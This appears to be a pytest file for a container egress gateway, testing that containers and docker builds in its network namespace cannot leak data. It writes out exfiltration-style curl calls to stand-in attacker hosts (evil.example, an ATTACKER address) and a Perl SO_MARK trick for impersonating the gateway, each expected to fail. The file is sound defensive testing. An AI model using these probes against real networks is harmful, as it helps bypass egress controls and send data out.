"""compose/shared.yaml: containers, and `docker build`, in the gateway's network namespace."""
from __future__ import annotations

import pytest

import leaks
from compose_project import Project
from test_compose import assert_nothing_leaks, works
from world import names

WAYS = [way for way in leaks.WAYS if way != "the host's address"]
# 36 is SO_MARK: what exempts the gateway's own sockets.
MARK = """perl -e 'socket(my $s, 2, 1, 0); exit(setsockopt($s, 1, 36, pack("L", 0xC0FFE)) ? 0 : 7)'"""


@pytest.fixture(scope="module")
def project(engine, world, compose):
    made = Project(engine, world, compose, "shared.yaml", ["GET,HEAD https://files.example/"])
    made.up()
    yield made
    made.down()


def test_what_the_policy_allows_can_be_pulled(project):
    assert works(project)
    assert project.await_record("allow", "small.txt")["request"]["url"] == "https://files.example/small.txt"


@pytest.mark.parametrize("way", WAYS)
def test_nothing_leaks(project, nonce, way):
    assert_nothing_leaks(project, nonce, way)


def test_the_build_container_cannot_pass_for_the_gateway(project):
    assert project.inside(MARK).returncode == 7
    capabilities = project.inside("grep CapBnd /proc/self/status").stdout.split()[1]
    net_admin, net_raw = 1 << 12, 1 << 13
    assert int(capabilities, 16) & (net_admin | net_raw) == 0


DOCKERFILE = """FROM client
COPY bundle.pem /etc/ssl/certs/ca-certificates.crt
RUN curl -fsS https://files.example/small.txt -o /pulled
RUN ! curl -fsS -m 5 https://{nonce}.evil.example/ && ! curl -fsS -m 5 http://{attacker}/{nonce} && ! getent hosts {nonce}.x.example
"""


def test_docker_build_through_the_gateway(project, world, engine, nonce, tmp_path):
    engine.docker("cp", f"{project.gateway}:/run/cofferdam/ca/bundle.pem", str(tmp_path / "bundle.pem"))
    (tmp_path / "Dockerfile").write_text(DOCKERFILE.format(nonce=nonce, attacker=names.ATTACKER))
    done = engine.docker("build", "--network", f"container:{project.gateway}", "-t", "built", str(tmp_path),
                         env={"DOCKER_BUILDKIT": "0"}, check=False)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    assert engine.docker("run", "--rm", "--network", "none", "built", "cat", "/pulled").stdout == "small\n"
    assert world.traces(nonce) == []


def test_without_the_gateway_nothing_leaves(project, world, nonce):
    assert works(project)
    project.engine.docker("kill", project.container("gateway"))
    leaks.attempt(world, project.inside, ("an address", "a name", "another resolver", "UDP", "ping"), nonce)
